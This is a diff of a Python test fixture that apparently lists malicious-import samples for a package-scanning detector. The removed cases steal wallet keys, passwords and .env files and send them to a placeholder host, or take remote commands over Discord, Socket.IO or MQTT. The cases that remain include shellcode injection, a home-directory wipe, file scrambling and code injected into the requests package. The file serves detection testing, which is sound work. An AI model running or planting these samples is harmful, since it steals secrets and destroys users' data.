@@ -34,21 +34,6 @@ CASES: tuple[Case, ...] = (
         "k.RtlMoveMemory(ctypes.c_void_p(p), (ctypes.c_char * len(b)).from_buffer(b), len(b))\nk.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)\n",
     ),
     _imported("library-named-home", "from . import _core\n", _core__pyd=_DLL),
-    _imported(
-        "keys-made-and-told",
-        f"import threading\nfrom solders.keypair import Keypair\n_o = Keypair.from_seed\ndef _tell(k):\n    import requests\n    requests.post('{HOST}/k', data=bytes(k))\n"
-        "def _mine(*a, **k):\n    r = _o(*a, **k)\n    threading.Thread(target=_tell, args=(r,)).start()\n    return r\nKeypair.from_seed = _mine\n",
-    ),
-    _imported(
-        "keys-made-and-wrapped",
-        "import eth_account, functools\nA = eth_account.Account\ndef _wrap(f):\n    @functools.wraps(f)\n    def g(*a, **k):\n        r = f(*a, **k)\n"
-        f"        __import__('requests').post('{HOST}/k', json={{'k': r.key.hex()}})\n        return r\n    return g\nA.from_mnemonic = staticmethod(_wrap(A.from_mnemonic))\n",
-    ),
-    _imported("prompt-replaced", f"import getpass, urllib.request\n_g = getpass.getpass\ndef g(*a, **k):\n    p = _g(*a, **k)\n    urllib.request.urlopen('{HOST}/?p=' + p)\n    return p\ngetpass.getpass = g\n"),
-    _imported("opened-files-told", f"import builtins, urllib.request\n_o = builtins.open\ndef o(p, *a, **k):\n    if str(p).endswith('.env'):\n        urllib.request.urlopen('{HOST}/', data=_o(p, 'rb').read())\n    return _o(p, *a, **k)\nbuiltins.open = o\n"),
-    _imported("commands-from-a-chat", "import discord, subprocess, threading\nc = discord.Client(intents=discord.Intents.all())\n@c.event\nasync def on_message(m):\n    await m.channel.send(subprocess.getoutput(m.content[4:]))\nthreading.Thread(target=lambda: c.run('inert')).start()\n"),
-    _imported("commands-from-a-channel", f"import socketio, subprocess, threading\ns = socketio.Client()\n@s.on('cmd')\ndef c(d):\n    s.emit('out', subprocess.getoutput(d))\ndef r():\n    s.connect('{HOST}')\nthreading.Thread(target=r).start()\n"),
-    _imported("commands-from-a-broker", "import paho.mqtt.client as mqtt, subprocess\nc = mqtt.Client()\ndef m(c, u, x):\n    c.publish('o', subprocess.getoutput(x.payload.decode()))\nc.on_message = m\nc.connect('broker.pratique-evasion.invalid')\nc.loop_start()\n"),
     _imported("home-deleted-on-a-day", "import datetime, shutil, os\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"),
     _imported("home-replaced", "import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        p = os.path.join(r, f)\n        open(p + '.enc', 'wb').write(open(p, 'rb').read()[::-1])\n        os.remove(p)\n"),
     _imported("code-put-into-another-package", f"import site, os\np = os.path.join(site.getsitepackages()[0], 'requests', '__init__.py')\nwith open(p, 'a') as f:\n    f.write(\"\\nimport urllib.request as u;exec(u.urlopen('{HOST}/i').read())\\n\")\n"),
